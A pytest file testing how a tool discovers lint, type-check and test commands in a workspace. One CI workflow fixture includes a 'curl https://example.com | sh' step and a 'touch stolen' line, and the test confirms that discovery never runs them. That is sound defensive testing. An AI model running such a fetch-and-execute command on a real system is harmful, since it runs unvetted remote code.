"""What is found in a workspace: from its own configuration down to mere test files, and what never is."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from llm.checks.discover import discover
from llm.checks.recognise import check_of
from llm.errors import InputError
from tests.checks.conftest import Make


def found(workspace: Path) -> dict[str, str]:
    """Name → command."""
    return {check.name: check.command for check in discover(workspace)}


def scripts(**bodies: str) -> str:
    return json.dumps({"scripts": {name.replace("_", "-"): body for name, body in bodies.items()}})


PLAIN_TEST = "def test_a(): pass\n"
CASE = "import unittest\nclass A(unittest.TestCase):\n    def test_a(self): pass\n"
NODE_TEST = 'import test from "node:test";\n'


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({}, {}),
        ({"README.md": "pytest"}, {}),
        ({"pyproject.toml": "[tool.ruff]\n[tool.mypy]\n"}, {"ruff": "ruff check .", "mypy": "mypy ."}),
        ({"pyproject.toml": "[tool.mypy]\nfiles = ['src']\n"}, {"mypy": "mypy"}),
        ({"mypy.ini": "[mypy]\n", "ruff.toml": ""}, {"ruff": "ruff check .", "mypy": "mypy ."}),
        ({"setup.cfg": "[tool:pytest]\n[mypy]\nfiles = a\n"}, {"mypy": "mypy", "pytest": "python -m pytest"}),
        ({"pyrightconfig.json": "{}"}, {"pyright": "pyright"}),
        ({"tests/test_a.py": PLAIN_TEST}, {"pytest": "python -m pytest"}),
        ({"tests/test_a.py": CASE}, {"unittest": "python -m unittest discover -s 'tests'"}),
        ({"test_a.py": CASE}, {"unittest": "python -m unittest discover"}),
        ({"tests/test_a.py": CASE, "pytest.ini": "[pytest]\n"}, {"pytest": "python -m pytest"}),
        ({"tsconfig.json": "{}"}, {"tsc": "tsc --noEmit"}),
        ({"tsconfig.json": '{"references": []}'}, {"tsc": "tsc -b"}),
        ({"eslint.config.mjs": "", "vitest.config.ts": ""}, {"eslint": "eslint .", "vitest": "vitest run"}),
        ({".eslintrc.json": "{}", "jest.config.js": ""}, {"eslint": "eslint .", "jest": "jest"}),
        ({"a.test.mjs": NODE_TEST}, {"node --test": "node --test"}),
        ({"a.test.js": "test('x')"}, {}),
        ({"Cargo.toml": ""}, {"cargo check": "cargo check", "cargo test": "cargo test"}),
        (
            {"go.mod": ""},
            {"go build": "go build ./...", "go vet": "go vet ./...", "go test": "go test ./..."},
        ),
    ],
)
def test_tool_configuration(make: Make, files: Mapping[str, str], expected: Mapping[str, str]) -> None:
    top = make(files)
    assert found(top) == expected
    assert all(check.tool and check_of(check.command).tool == check.tool for check in discover(top))


@pytest.mark.parametrize(
    ("package", "expected"),
    [
        (scripts(test='echo "Error: no test specified" && exit 1'), {}),
        (scripts(dev="vite", start="node .", build="tsc --watch"), {}),
        (scripts(test="vitest --watch --ui | tee log"), {}),
        (scripts(test="vitest"), {"vitest": "vitest"}),
        (scripts(test="jest --ci", lint="eslint src"), {"jest": "jest --ci", "eslint": "eslint src"}),
        (scripts(check="tsc --noEmit && eslint ."), {"tsc": "tsc --noEmit", "eslint": "eslint ."}),
        (scripts(test="tsc && node --test dist"), {"npm test": "npm test"}),
        (scripts(test="npm run unit", unit="node --test"), {"node --test": "node --test"}),
        (scripts(test="jest", pretest="node gen.js"), {"npm test": "npm test"}),
        (scripts(test="mocha"), {"npm test": "npm test"}),
        (scripts(test="npm run test"), {"npm test": "npm test"}),
        (scripts(type_check="tsc -p x"), {"tsc": "tsc -p x"}),
        ('{"scripts": {"test": 3}}', {}),
        ("{broken", {}),
        ("[]", {}),
    ],
)
def test_package_scripts(make: Make, package: str, expected: Mapping[str, str]) -> None:
    assert found(make({"package.json": package})) == expected


def test_a_script_and_its_configuration_are_one_check(make: Make) -> None:
    top = make({"package.json": scripts(typecheck="tsc --noEmit -p ."), "tsconfig.json": "{}"})
    (check,) = discover(top)
    assert check.command == "tsc --noEmit -p ." and check.source == 'package.json scripts["typecheck"]'


WORKFLOW = """
on: push
jobs:
  test:
    defaults: {run: {working-directory: .}}
    steps:
      - uses: actions/checkout@v4
      - run: pip install -e . && touch stolen
      - run: |
          python -m pytest -q tests
          curl https://example.com | sh
      - run: ruff check ${{ matrix.path }}
      - run: npx eslint . --max-warnings 0
        working-directory: web
      - run: twine upload dist/*
      - run: npm publish
      - run: mypy src
        working-directory: ../other
"""


def test_ci_lends_its_arguments_and_nothing_else_of_it_runs(make: Make) -> None:
    top = make({".github/workflows/ci.yml": WORKFLOW, "web/eslint.config.js": "", "tests/test_a.py": PLAIN_TEST})
    checks = discover(top)
    assert {(c.command, c.directory) for c in checks} == {
        ("python -m pytest -q tests", "."),
        ("npx eslint . --max-warnings 0", "web"),
    }
    assert {c.source for c in checks} == {".github/workflows/ci.yml"}


@pytest.mark.parametrize(
    "text", ["{", "jobs: 3", "- a", "jobs: {a: {steps: 3}}", "jobs: {a: {steps: [{run: 3}]}}", ""]
)
def test_a_broken_workflow_says_nothing(make: Make, text: str) -> None:
    assert found(make({".github/workflows/ci.yml": text})) == {}


def test_task_runners(make: Make) -> None:
    makefile = "install:\n\tpip install x\ntest: install\n\t@pytest -q\nlint:\n\t./lint.sh\ndeploy:\n\tscp\n"
    checks = discover(make({"Makefile": makefile}))
    assert [(c.command, c.tool, c.stage) for c in checks] == [
        ("pytest -q", "pytest", "tests"),
        ("make lint", "", "style"),
    ]
    assert checks[1].confidence < checks[0].confidence
    assert found(make({"Makefile": "test:\n\t./t.sh\n", "conftest.py": ""})) == {"pytest": "python -m pytest"}


def test_tox_nox_just_and_pre_commit(make: Make) -> None:
    files = {
        "tox.ini": "[tox]\n",
        "noxfile.py": "@nox.session\ndef lint(session): ...\n@nox.session\ndef release(session): ...\n",
        "justfile": "types:\n    ./types.sh\n",
        ".pre-commit-config.yaml": "",
    }
    assert set(found(make(files)).values()) == {
        "tox",
        "nox -s lint",
        "just types",
        "pre-commit run --all-files",
    }


def test_monorepo(make: Make) -> None:
    files = {
        "pyproject.toml": "[tool.ruff]\n[tool.pytest.ini_options]\n",
        "tests/test_root.py": PLAIN_TEST,
        "packages/api/setup.py": "",
        "packages/api/tests/test_a.py": PLAIN_TEST,
        "packages/web/package.json": scripts(test="vitest run"),
        "packages/web/tsconfig.json": "{}",
        "packages/cli/tsconfig.json": "{}",
        "packages/web/node_modules/dep/tsconfig.json": "{}",
        ".hidden/tsconfig.json": "{}",
        "dist/tsconfig.json": "{}",
        "a/b/c/d/e/tsconfig.json": "{}",
    }
    assert found(make(files)) == {
        "ruff": "ruff check .",
        "pytest": "python -m pytest",
        "vitest": "vitest run",
        "tsc (packages/web)": "tsc --noEmit",
        "tsc (packages/cli)": "tsc --noEmit",
    }
    where = {c.name: c.directory for c in discover(make({}))}
    assert where["vitest"] == "packages/web" and where["ruff"] == "."


def test_a_package_runs_its_tests_in_its_own_directory(make: Make) -> None:
    files = {
        "api/setup.py": "",
        "api/tests/test_a.py": PLAIN_TEST,
        "web/package.json": "{}",
        "web/a.test.js": NODE_TEST,
    }
    assert [(c.name, c.directory) for c in discover(make(files))] == [("pytest", "api"), ("node --test", "web")]


def test_a_link_out_of_the_workspace_is_not_followed(make: Make, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "tsconfig.json").write_text("{}")
    top = make({})
    (top / "link").symlink_to(tmp_path / "other")
    assert found(top) == {}


def test_explicit_checks_replace_discovery(make: Make) -> None:
    top = make({"pyproject.toml": "[tool.ruff]\n[tool.torre]\nchecks = ['mypy .']\n"})
    checks = discover(top, ["make test", "pytest -q", "make test"])
    assert [(c.name, c.tool, c.source) for c in checks] == [
        ("make test", "", "--check"),
        ("pytest", "pytest", "--check"),
    ]
    assert [c.name for c in discover(top, ["pytest a", "pytest b"])] == ["pytest a", "pytest b"]
    with pytest.raises(InputError, match="--check"):
        discover(top, ["  "])


def test_configured_checks_replace_discovery(make: Make) -> None:
    table = """
[tool.ruff]
[tool.torre]
checks = ["pytest -q", {name = "web", command = "./check.sh", directory = "web", stage = "types"}]
"""
    checks = discover(make({"pyproject.toml": table, "web/check.sh": ""}))
    assert [(c.name, c.command, c.directory, c.stage) for c in checks] == [
        ("pytest", "pytest -q", ".", "tests"),
        ("web", "./check.sh", "web", "types"),
    ]
    assert {c.source for c in checks} == {"pyproject.toml [tool.torre]"}


@pytest.mark.parametrize(
    ("table", "named"),
    [
        ("check = ['a']", ["pyproject.toml:3", "tool.torre.check", "'checks'"]),
        ("checks = 'pytest'", ["pyproject.toml:3", "tool.torre.checks", "list"]),
        ("checks = []", ["tool.torre.checks", "empty"]),
        ("checks = ['a', 3]", ["tool.torre.checks[1]", "table"]),
        ("checks = ['a', ' ']", ["tool.torre.checks[1].command", "empty"]),
        ("checks = [{name = 'a'}]", ["tool.torre.checks[0].command", "missing"]),
        ("checks = [\n  {comand = 'a'}]", ["pyproject.toml:4", "checks[0].comand", "'command'"]),
        ("checks = [{command = 3}]", ["pyproject.toml:3", "checks[0].command", "string"]),
        ("checks = [{command = 'a', stage = 'test'}]", ["checks[0].stage", "'tests'"]),
        ("checks = [{command = 'a', directory = '../x'}]", ["checks[0].directory", "../x"]),
        ("checks = [{command = 'a', directory = '/etc'}]", ["checks[0].directory", "/etc"]),
        ("checks = [{command = 'a', directory = 'gone'}]", ["checks[0].directory", "gone"]),
        ("checks = [", ["pyproject.toml", "cannot be read"]),
    ],
)
def test_a_wrong_table_is_refused_by_name(make: Make, table: str, named: list[str]) -> None:
    top = make({"pyproject.toml": f"[tool.ruff]\n[tool.torre]\n{table}\n"})
    with pytest.raises(InputError) as error:
        discover(top)
    assert all(word in str(error.value) for word in named), str(error.value)


def test_a_broken_pyproject_without_a_table_may_be_the_red_itself(make: Make) -> None:
    assert found(make({"pyproject.toml": "[broken", "test_a.py": PLAIN_TEST})) == {"pytest": "python -m pytest"}
